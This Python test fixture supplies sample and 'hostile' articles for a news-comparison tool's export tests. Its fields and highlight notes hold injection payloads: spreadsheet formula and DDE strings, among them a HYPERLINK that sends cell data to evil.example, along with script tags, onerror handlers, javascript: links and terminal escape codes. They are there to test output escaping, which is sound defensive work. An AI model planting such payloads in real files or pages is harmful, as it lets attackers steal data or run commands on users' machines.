"""Comparisons the export tests share: the sample story, and a hostile pair of articles whose
text, ids, outlets and titles try to be HTML, formulas, links, markup and terminal escapes."""

from __future__ import annotations

from functools import cache

from corpus.article import Article
from corpus.comparison import Comparison, compare
from corpus.highlight import Highlight
from corpus.load import load_sources, sample_sources

HOSTILE_TEXT = (
    '=HYPERLINK("http://evil.example/steal?d="&A1,"Click") was posted beside the Port Elandra '
    "tidal vote notice on Tuesday.\n\n"
    "+cmd|' /C calc'!A0 reads the second line of the Port Elandra harbour notice about "
    "turbines.\n\n"
    "@SUM(1+1)*cmd|' /C calc'!A0 appeared in the third line of the harbour notice on Tuesday.\n\n"
    "<script>alert(1)</script> The council said the Gannet Point survey ran for eighteen "
    "months.\n\n"
    "<img src=x onerror=alert(2)> Council members Ruth Okafor and Dale Pruitt voted against "
    "the plan.\n\n"
    "[bold]markup[/] The mayor said the array would employ 600 people at the harbour.\n\n"
    "\x1b[31mThe red alarm text\x1b[0m rang out as Brackwater shares rose 6.4 percent on "
    "Wednesday.\n\n"
    "[click me](javascript:alert(3)) and https://evil.example/track.png were pasted in the "
    "comments.\n\n"
    "-2+3+cmd|' /C calc'!A0 was the last line of the harbour notice posted on the pier gate.\n"
)
# The copy changes hostile words, so they land inside word-level diffs too.
HOSTILE_COPY = (
    HOSTILE_TEXT.replace(
        "<script>alert(1)</script> The council", "<script>steal(1)</script> The city council"
    )
    .replace("voted against the plan", "voted against the <b>whole</b> plan")
    .replace("rang out as Brackwater", "rang out loudly as Brackwater")
)
HOSTILE_ID = 'x1"><img src=x onerror=alert(5)>'
PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "=HYPERLINK(",
    "+cmd|",
    "@SUM(",
    "[bold]markup[/]",
    "\x1b[31m",
    "[click me](javascript:alert(3))",
)


@cache
def sample() -> Comparison:
    """The bundled sample story, compared."""
    return compare(load_sources(sample_sources(), warn=print))


def hostile_articles() -> list[Article]:
    """Two articles, the second an edited copy of the first, both full of hostile text."""
    return [
        Article(
            source="x1.txt",
            id=HOSTILE_ID,
            outlet="=cmd|' /C calc'!A0",
            title="<script>alert(4)</script>",
            url="javascript:alert(6)",
            text=HOSTILE_TEXT,
            published="2026-03-04T07:00:00Z",
        ),
        Article(
            source="x2.txt",
            id="x2",
            outlet="<b>Evil</b> \x1b[31mTimes",
            title="[red]t[/] <iframe src=https://evil.example/>",
            text=HOSTILE_COPY,
            published="2026-03-04T09:00:00Z",
        ),
    ]


@cache
def hostile() -> Comparison:
    """The hostile pair, compared."""
    return compare(hostile_articles())


def hostile_highlights() -> tuple[Highlight, ...]:
    """A highlight on the hostile article's first sentence with a hostile note and tag."""
    c = hostile()
    s = c.sentences[0][0]
    return (
        Highlight(
            article=HOSTILE_ID,
            start=s.start,
            end=s.end,
            text=s.text,
            note="=1+1 <script>alert(7)</script> [x](javascript:alert(8)) \x1b[2J",
            tag="@tag",
            created="2026-03-05T10:00:00+00:00",
        ),
    )


def sample_highlights() -> tuple[Highlight, ...]:
    """Two highlights on the sample: one on a matched sentence, one on a unique one."""
    c = sample()
    blog = next(k for k, a in enumerate(c.articles) if a.id == "blog")
    matched = {r.sentence for m in c.matches for r in (m.a, m.b) if r.article == blog}
    hit = next(s for s in c.sentences[blog] if s.index in matched)
    miss = next(s for s in c.sentences[blog] if s.index not in matched and not s.boilerplate)
    return (
        Highlight("blog", hit.start + 2, hit.end - 2, hit.text[2:-2], note="check this figure"),
        Highlight("blog", miss.start, miss.end, miss.text, note="only the blog says this"),
    )
